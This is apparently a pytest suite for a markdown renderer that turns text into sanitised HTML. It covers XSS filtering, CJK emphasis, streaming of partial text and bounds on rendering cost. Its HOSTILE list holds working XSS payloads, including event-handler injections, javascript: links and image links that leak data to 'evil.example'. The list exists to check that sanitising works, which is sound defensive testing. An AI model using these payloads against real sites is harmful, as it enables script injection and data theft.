"""Markdown becomes safe HTML at one place, whole or growing."""

import random
import re
import sys
from html.parser import HTMLParser

import pytest
from django.utils import translation
from django.utils.safestring import SafeString
from markdown_it import MarkdownIt

from prompts.render_budget import MIN_EXPANSION, RenderBudget
from prompts.rendered import Rendered
from prompts.rendering import TAGS, GrowingText, _render, render_markdown
from tenants.context import tenant

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](https://evil.example/leak?q=secret)",
    "![x](//evil.example/leak)",
    "<a href='https://evil.example' onclick=alert(1)>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{background:url(https://evil.example)}</style>",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```python onload=alert(1)\nprint('<b>')\n```",
    "| a |\n|:-|\n| <svg onload=alert(1)> |",
    '[x](https://evil.example "\\" onmouseover=alert(1) \\"")',
    "- [ ] <b onclick=alert(1)>task</b>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TEXT = """# Heading

A paragraph with *emphasis*, `code` and a [link](https://docs.example/page).

- one
- two

  still two

1. first
2. second

```python
def f(x):
    return x + 1
```

| a | b |
|:-|-:|
| 1 | 2 |

> quoted

中文段落。

Last words"""


class Reader(HTMLParser):
    """What a browser would see: tags, attribute names, addresses."""

    def __init__(self, html: str):
        super().__init__()
        self.tags = set()
        self.names = set()
        self.addresses = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.names |= {name for name, _value in attrs}
        self.addresses += [value for name, value in attrs if name in ("href", "src")]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives(text):
    seen = Reader(render_markdown(text))
    assert seen.tags <= TAGS
    assert not [
        name
        for name in seen.names
        if name.startswith("on") or name in ("style", "src", "srcdoc", "formaction")
    ]
    assert not [
        address
        for address in seen.addresses
        if not address.startswith(("http://", "https://", "mailto:", "//", "/", "#"))
    ]


def test_planted_bug_without_the_allow_list_the_test_above_fails(monkeypatch):
    monkeypatch.setattr("prompts.rendering._parser", lambda: MarkdownIt("commonmark", {"html": True}))
    monkeypatch.setattr("prompts.rendering._clean", str)
    monkeypatch.setattr("prompts.rendering._finished", Rendered())
    with pytest.raises(AssertionError):
        test_nothing_hostile_survives(HOSTILE[1])


def test_code_is_highlighted_and_escaped():
    html = render_markdown("```python\nif a < b:\n    pass\n```")
    assert 'class="language-python"' in html and '<span class="k">if</span>' in html and "&lt;" in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**注意：**正文", "<strong>注意：</strong>正文"),
        (
            "**「重点」**内容 含**（测试）**后文",
            "<strong>「重点」</strong>内容 含<strong>（测试）</strong>后文",
        ),
        ('한국어 **"강조"**는', "한국어 <strong>&quot;강조&quot;</strong>는"),
        ("日本語**「強調」**です", "日本語<strong>「強調」</strong>です"),
        ("他说**“重点”**内容", "他说<strong>“重点”</strong>内容"),
        ("这个*`code`*吗", "这个<em><code>code</code></em>吗"),
        ("~~（旧）~~新", "<s>（旧）</s>新"),
        ("葛\U000e0100**(a)**葛", "葛\U000e0100<strong>(a)</strong>葛"),  # with a selector of a variant
        ("2 * 3 * 4，a_b_c，文件_名_称", "2 * 3 * 4，a_b_c，文件_名_称"),
        ("a**“b”**c", "a**“b”**c"),
        ("👍**(a)**b", "👍**(a)**b"),
    ],
)
def test_emphasis_beside_punctuation_of_languages_without_blanks(text, html):
    """As in the CJK-friendly amendment to CommonMark; other languages are read as ever."""
    assert render_markdown(text).strip().replace('"', "&quot;") == f"<p dir=&quot;auto&quot;>{html}</p>"


def test_tables_align_by_class():
    assert '<td class="align-right">' in render_markdown("| a |\n|-:|\n| 1 |")


@pytest.mark.parametrize(
    ("cell", "html"),
    [
        ("one<br>**two<BR/>three**<br />", "one<br>\n<strong>two<br>\nthree</strong><br>\n"),
        ("`<br>` and \\<br>, &lt;br>", "<code>&lt;br&gt;</code> and &lt;br&gt;, &lt;br&gt;"),
        ("<br onclick=x><b>a</b><hr>", "&lt;br onclick=x&gt;&lt;b&gt;a&lt;/b&gt;&lt;hr&gt;"),
    ],
)
def test_a_cell_breaks_its_lines_and_knows_no_other_html(cell, html):
    assert f"<td>{html}</td>" in render_markdown(f"| a |\n|---|\n| {cell} |")


def test_footnotes_stay_as_they_were_written():
    html = render_markdown("So it is[^1], see [b].\n\n[^1]: Smith\n[^n]: /c/ 'x'\n\n[b]: /c/")
    assert html == (
        '<p dir="auto">So it is[^1], see <a href="/c/" rel="noopener noreferrer nofollow">b</a>.</p>\n'
        "<p dir=\"auto\">[^1]: Smith<br>\n[^n]: /c/ 'x'</p>\n"
    )


def test_outside_of_cells_a_break_is_text():
    assert "a&lt;br&gt;b" in render_markdown("a<br>b")


@pytest.mark.parametrize("seed", range(20))
def test_a_growing_text_ends_as_the_whole_text(seed):
    """However the text is cut into pieces, the finished blocks and the last one are what the whole renders
    to.
    """
    dice, growing, html, tail, rest = random.Random(seed), GrowingText(), "", "", TEXT
    while rest:
        size = dice.randint(1, 12)
        finished, tail = growing.grow(rest[:size])
        html, rest = html + finished, rest[size:]
    assert re.sub(r"\s+", "", html + tail) == re.sub(r"\s+", "", render_markdown(TEXT))


def test_finished_blocks_are_given_once():
    growing = GrowingText()
    assert growing.grow("One.\n\nTw")[0] == '<p dir="auto">One.</p>\n'
    finished, tail = growing.grow("o.")
    assert (finished, tail) == ("", '<p dir="auto">Two.</p>\n')


# -- a long block that still grows ---------------------------------------------------------------------------

CODE = "```python\n" + "    x = foo(bar, baz)[1:2]  # something\n" * 400


def test_code_that_is_still_written_is_not_coloured():
    growing = GrowingText()
    assert "<span" not in growing.grow("```python\nif a < b:\n    pass\n")[1]
    assert "<span" not in growing.grow("```")[1]
    assert '<span class="k">if</span>' in growing.grow("\n\nThat was it.")[0], "finished"


def test_what_is_added_unrendered_is_rendered_with_the_next_piece():
    growing = GrowingText()
    growing.add("One.\n\nTw")
    assert growing.size == 8
    assert growing.grow("o.") == ('<p dir="auto">One.</p>\n', '<p dir="auto">Two.</p>\n')


def test_a_long_open_block_of_code_is_cheap_to_render_again(monkeypatch):
    """It is coloured once, when it is finished."""
    coloured = []
    monkeypatch.setattr(
        "prompts.rendering._colour", lambda code, language, budget: coloured.append(language) or ""
    )
    growing = GrowingText()
    growing.grow(CODE)
    for _time in range(100):
        growing.grow("    y = 1\n")
    assert coloured == []
    growing.grow("```\n\nafter\n\n")
    assert coloured == ["python"]


def test_a_block_too_long_to_be_formatted_is_shown_as_it_is_while_it_grows(monkeypatch):
    monkeypatch.setattr("prompts.rendering.MAX_MARKDOWN", 60)
    growing = GrowingText()
    finished, tail = growing.grow("One.\n\n" + "*a* b\n" * 12)
    assert finished == '<p dir="auto">One.</p>\n'
    assert tail.count("<em>") == 10 and tail.count("*a*") == 2 and "too long to be formatted" in tail
    assert growing.grow("*c* d\n")[1].count("<em>") == 10
    growing = GrowingText()
    growing.add("One.\n\n" * 20)
    finished, tail = growing.grow("")
    while more := growing.grow("")[0]:
        finished += more
    assert (
        finished.count('<p dir="auto">One.</p>') == 19 and growing.grow("")[1] == '<p dir="auto">One.</p>\n'
    )


# -- much of little ------------------------------------------------------------------------------------------


def count_lines(text: str) -> int:
    """Lines of Python that rendering runs through, and calls into C: work, however busy the machine is."""
    count = 0

    def note(_frame, event, _argument):
        nonlocal count
        count += event in ("line", "c_call")
        return note

    sys.settrace(note)
    sys.setprofile(note)
    try:
        _render(text, RenderBudget())
    finally:
        sys.settrace(None)
        sys.setprofile(None)
    return count


REPEATED = [
    r"\(",
    r"so \[",
    "\\[\n",
    "$a",
    "$$\n",
    "中$5a",
    "\\begin{align}\n",
    r"so \begin{align} ",
    "\\begin{align}\n\\begin{cases}\n",
    "中**（",
    "*\ufe00",
    "- [ ] a\n",
    "- a\n  - b\n",
    "[",
    "![",
    "[a](",
    "[a][b",
    "[a]: b\n",
    "*a ",
    "**a _b ",
    "~~a ",
    "`a``b",
    "> ",
    "<a ",
    "<!-- ",
    "&amp;",
    "| a | b |\n",
    "| a |\n|---|\n| <br>",
    "1. a\n",
    "```\n",
    "# a\n",
    "a\n",
    "http://",
    "a http://b.example/c ",
    "a@b.example ",
    "a@",
    "mailto:a@b.example\n",
    "$x$ ",
    r"\(\frac{1}{2}\) ",
]


@pytest.mark.parametrize("piece", REPEATED, ids=ascii)
def test_twice_the_text_takes_twice_the_work(piece):
    short, long = (count_lines(piece * (size // len(piece))) for size in (1_000, 4_000))
    assert long < 5 * short + 2_000, (
        "four times the text; where each looks to the end of it, it takes about fifteen times as much"
    )


def test_references_expand_no_further_than_the_text_is_long():
    text = f"[a]: http://x/{'b' * 20_000}\n\n" + "[a] " * 6_000
    html = render_markdown(text)
    assert len(html) < 4 * MIN_EXPANSION
    assert html.count("<a ") == 4 and "[a] [a]" in html, "what is not a link stays readable"
    assert render_markdown("[a]: http://x/b\n\n" + "[a] " * 1_000).count("<a ") == 1_000


def test_wide_tables_with_short_rows_are_not_filled_up_without_end():
    wide = "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n" + "b\n" * 20 + "\n"
    assert render_markdown(wide * 8).count("<td") < 70_000
    assert render_markdown("| a | b |\n| - | - |\n| 1 | 2 |\n\n" * 200).count("<table ") == 200


def test_one_wide_table_with_many_short_rows_is_text():
    """Two kilobytes became 60,000 cells; a conversation of twenty such answers took half a minute."""
    wide = "|" + "a|" * 250 + "\n|" + "-|" * 250 + "\n" + "a|b\n" * 255 + "\n"
    assert len(render_markdown(wide)) < 20 * len(wide) and "a|b" in render_markdown(wide)
    plain = "| a | b | c |\n| - | - | - |\n" + "| 1 | 2 | 3 |\n" * 500
    assert render_markdown(plain).count("<td>") == 1_500


def test_colours_are_bounded_over_all_blocks_of_a_text():
    block = f"```python\n{'x = 1' + chr(10)}" + "x = 1\n" * 2_000 + "```\n"
    html = _render(block * 3, RenderBudget(clock=lambda: 0.0))
    first, second, third = html.split("<pre>")[1:]
    assert "<span" in first and "<span" not in second + third and second.count("x = 1") == 2_001
    ticks = iter(range(1_000_000))
    slow = RenderBudget(clock=lambda: next(ticks) / 10)
    assert "<span" not in _render("```python\nx = 1\n```", slow), "a lexer that takes too long is left"
    assert slow.colouring_s == 0


def test_code_in_a_very_long_line_has_no_colours():
    """One step of some lexers takes time by the square of the line: ten seconds for this one."""
    assert "<span" not in render_markdown(f"```html+ng2\n{'(' * 15_000}\n```")
    line = "x = [1, 2, 3] + y  # so many"
    assert "<span" in render_markdown(f"```python\n{line * 15}\n```")
    assert "<span" not in render_markdown(f"```python\n{line * 20}\n```")


def test_what_is_too_long_to_be_formatted_is_shown_as_it_is():
    html = render_markdown("*a*\n" * 60_000 + "<b>*end*</b>")
    assert (
        "<em>a</em>" in html
        and "&lt;b&gt;*end*&lt;/b&gt;</code></pre>" in html
        and "too long to be formatted" in html
    )
    assert html.count("a") >= 60_000


def test_a_text_is_rendered_once_by_tenant_and_language():
    kept, made = Rendered(max_bytes=4_000), []

    def ask(text: str) -> str:
        return kept.get(text, lambda: made.append(text) or SafeString(text * 100))

    assert ask("a") == ask("a") == "a" * 100 and made == ["a"]
    with translation.override("de"):
        ask("a")
    with tenant("globex"):
        ask("a")
    assert made == ["a"] * 3
    for letter in "bcdefghijk":
        ask(letter)
    ask("k")
    ask("a")
    assert made.count("k") == 1 and made.count("a") == 4, "the oldest makes room"
